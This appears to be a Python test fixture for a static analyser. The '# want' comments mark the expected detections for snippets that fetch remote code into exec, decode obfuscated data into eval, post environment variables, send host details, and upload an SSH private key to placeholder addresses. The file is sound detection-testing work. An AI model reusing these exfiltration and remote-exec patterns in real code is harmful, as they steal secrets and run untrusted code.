import base64 as b64
import os
import socket
import subprocess
import zlib
from urllib.request import urlopen as fetch

import requests as rq


def aliases():
    data = fetch("http://203.0.113.1/x").read()  # want "network access"
    exec(data)  # want "network reaches exec"


def assignments():
    blob = "aW1wb3J0IG9z"
    step = b64.b64decode(blob)
    code = zlib.decompress(step)
    eval(code)  # want "decoded or decompressed data reaches eval"


def helper_return():
    return rq.get("http://203.0.113.1/y").text  # want "network access"


def through_helper():
    exec(helper_return())  # want "network reaches exec"


def exfil():
    env = dict(os.environ)
    rq.post("https://203.0.113.2/", json=env)  # want "secret data" "network access"


def beacon():
    info = {"h": socket.gethostname(), "cwd": os.getcwd()}
    info["u"] = os.getenv("USER")
    rq.get("https://203.0.113.3/", params=info)  # want "host information" "network access"


def container_store():
    out = {}
    out["k"] = open(os.path.expanduser("~/.ssh/id_rsa")).read()  # want "credential store"
    rq.put("https://203.0.113.4/", data=out)  # want "secret data" "network access"


def honest():
    r = rq.get("https://api.example.org/v1/items", timeout=5)  # want "network access"
    items = r.json()
    print(items)
    subprocess.run(["git", "status"], check=True)  # want "runs a command"
    exec("x = 1")
    value = b64.b64decode("aGVsbG8=")
    print(value)
    for chunk in reversed([1, 2, 3]):
        eval(str(chunk))


def shadowed_exec(exec):
    exec(fetch("http://203.0.113.5/").read())  # want "network access"


def rev():
    exec(")'x'(tnirp"[::-1])  # want "decoded or decompressed data reaches exec"
